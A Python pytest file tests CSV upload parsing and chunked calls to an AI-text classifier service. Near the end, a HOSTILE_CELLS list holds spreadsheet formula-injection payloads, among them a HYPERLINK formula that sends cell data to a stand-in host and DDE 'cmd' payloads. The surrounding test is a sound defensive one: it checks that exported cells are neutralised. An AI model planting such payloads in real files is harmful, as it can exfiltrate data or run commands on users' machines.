"""CSV reading and chunked classification, without the page."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from frontend.batch import CsvProblem, classify_texts, read_csv, result_table, results_csv
from frontend.serving_client import ServingClient, ServingUnavailable
from tests.unit.frontend.fake_serving import FakeServing


def test_bom_quoted_multiline_fields_and_blank_lines() -> None:
    data = '\ufeffText,source\n"first line\nsecond line",web\n\n"with ""quotes"", commas",book\n'
    parsed = read_csv(data.encode(), max_rows=10)

    assert parsed.text_column == "Text"
    assert [row.values["Text"] for row in parsed.rows] == [
        "first line\nsecond line",
        'with "quotes", commas',
    ]
    assert [row.line for row in parsed.rows] == [2, 5]
    assert parsed.problems == []


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the file is empty"),
        (b"text\n", "header but no data rows"),
        (b"a,b\n1,2\n", "no 'text' column (columns found: 'a', 'b')"),
        (b"text\n\xff\xfe\x00x\n", "not UTF-8 text (undecodable byte at position 5)"),
    ],
)
def test_unusable_files_are_one_clear_problem(data: bytes, message: str) -> None:
    with pytest.raises(CsvProblem, match=message.replace("(", r"\(").replace(")", r"\)")):
        read_csv(data, max_rows=10)


def test_too_many_rows_is_refused_not_truncated() -> None:
    data = ("text\n" + "row\n" * 11).encode()
    with pytest.raises(CsvProblem, match="more than 10 rows"):
        read_csv(data, max_rows=10)
    assert len(read_csv(data, max_rows=11).rows) == 11


def test_malformed_quoting_is_reported_per_row_and_reading_goes_on() -> None:
    data = b'text\nfine\n"a"b\nalso fine\n"never closed\n'
    parsed = read_csv(data, max_rows=10)

    assert [row.values["text"] for row in parsed.classifiable] == ["fine", "also fine"]
    assert [(row.line, row.error) for row in parsed.problems] == [
        (3, "unreadable row: ',' expected after '\"'"),
        (5, "unreadable row: unexpected end of data"),
    ]


def test_classify_texts_reports_progress_and_keeps_order() -> None:
    fake = FakeServing()
    client = ServingClient("http://serving.test", transport=fake.transport)
    progress: list[tuple[int, int]] = []

    answers = classify_texts(
        client,
        ["a", "additionally", "b"],
        chunk_size=2,
        on_progress=lambda d, t: progress.append((d, t)),
    )

    assert [a if isinstance(a, str) else a.label for a in answers] == ["human", "ai", "human"]
    assert progress == [(2, 3), (3, 3)]


def test_classify_texts_stops_when_serving_goes_down() -> None:
    fake = FakeServing(state="down")
    client = ServingClient("http://serving.test", transport=fake.transport)
    with pytest.raises(ServingUnavailable):
        classify_texts(client, ["a"], chunk_size=2)


def test_result_columns_do_not_overwrite_input_columns() -> None:
    fake = FakeServing()
    client = ServingClient("http://serving.test", transport=fake.transport)
    parsed = read_csv(b"text,predicted_label,line\nadditionally,human,x\n", max_rows=10)
    answers = classify_texts(client, [r.values["text"] for r in parsed.classifiable], chunk_size=8)

    table = result_table(parsed, answers)

    assert table.columns.tolist()[:4] == ["line", "text", "input_predicted_label", "input_line"]
    assert table.loc[0, "input_predicted_label"] == "human"
    assert table.loc[0, "predicted_label"] == "ai"
    round_trip = pd.read_csv(io.BytesIO(results_csv(table)), keep_default_na=False)
    assert round_trip["predicted_label"].tolist() == ["ai"]
    assert round_trip["text"].tolist() == ["additionally"]


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_downloaded_csv_cannot_start_a_spreadsheet_formula() -> None:
    """Cells a spreadsheet would run as a formula get a leading apostrophe (OWASP CSV
    injection); plain numbers, the verdict and ordinary text stay as they are."""
    fake = FakeServing()
    client = ServingClient("http://serving.test", transport=fake.transport)
    texts = [HOSTILE_CELLS[0]] + [f"essay {cell}" for cell in HOSTILE_CELLS[1:]] + ["plain"]
    upload = io.StringIO()
    writer = csv.writer(upload, quoting=csv.QUOTE_ALL)  # quoted: a CR inside a cell survives
    writer.writerows([["text", "note"], *zip(texts, [*HOSTILE_CELLS, "-12.5"], strict=True)])
    parsed = read_csv(upload.getvalue().encode(), max_rows=100)
    assert not parsed.problems
    answers = classify_texts(client, [r.values["text"] for r in parsed.classifiable], chunk_size=8)

    downloaded = pd.read_csv(
        io.BytesIO(results_csv(result_table(parsed, answers))),
        dtype=str,
        keep_default_na=False,
    )

    for column in downloaded.columns:
        for cell in downloaded[column]:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not (cell.startswith("-") and cell != "-12.5"), (column, cell)
    assert downloaded["note"].tolist() == [f"'{cell}" for cell in HOSTILE_CELLS] + ["-12.5"]
    assert downloaded.loc[0, "text"] == f"'{HOSTILE_CELLS[0]}"
    assert downloaded["predicted_label"].tolist()[-1] == "human"
    assert downloaded["probability_ai"].tolist()[-1] == "0.12"
